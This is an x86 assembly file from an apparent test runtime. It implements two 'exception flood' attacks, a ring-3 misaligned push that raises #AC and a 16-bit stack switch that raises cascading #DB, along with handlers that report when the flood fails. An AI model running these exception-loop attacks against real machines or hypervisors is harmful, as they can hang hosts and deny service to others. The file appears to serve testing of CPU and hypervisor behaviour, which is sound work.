/*
 * The instructions of the exception floods (flood.c says why each works):
 * the ring-3 code and handler of ac-flood, and db-flood's switch to its
 * 16-bit stack, which C cannot run on (its SS base is not 0).
 */
#include "attack.h"

	.text
	.code32

/* ac-flood, at CPL 3 with EFLAGS.AC set and ESP = 2 mod 4: this PUSH is
 * a misaligned stack write, the first #AC. */
	.globl ring3_misaligned_push
ring3_misaligned_push:
	pushl %eax
1:	jmp 1b

/* ac-flood's #AC handler (CPL 3).  Reaching it means a delivery of #AC
 * completed, i.e. the flood did not happen.  UD2 then raises #UD, whose
 * gate is the runtime's at ring 0 (through the TSS's stack): the runtime
 * reports the unexpected #UD with this EIP and ends the run. */
	.globl ring3_ac_handler
ring3_ac_handler:
	ud2

/* db_flood_start(gate): SS becomes the 16-bit stack segment with SP = 0,
 * then one read of the watched gate raises the first #DB.  MOV SS delays
 * debug traps by one instruction (SDM Vol. 3A 6.8.3), which here is only
 * the XOR that sets SP, before the read. */
	.globl db_flood_start
db_flood_start:
	movl 4(%esp), %ecx
	movl %esp, db_flood_saved_esp
	movw $SEL_STACK16, %ax
	movw %ax, %ss
	xorl %esp, %esp
	movl (%ecx), %eax
1:	jmp 1b

/* db-flood's #DB handler, reached only if a #DB delivery completed without
 * raising the next one: back to the flat stack, breakpoints off, and
 * report where the CPU was (the EIP the delivery pushed, at SS:SP). */
	.globl db_flood_escape
db_flood_escape:
	movzwl %sp, %eax
	movl %ss:(%eax), %eax
	movw $SEL_DATA0, %cx
	movw %cx, %ss
	movl db_flood_saved_esp, %esp
	xorl %ecx, %ecx
	movl %ecx, %dr7
	pushl %eax
	call db_flood_escaped
2:	hlt
	jmp 2b
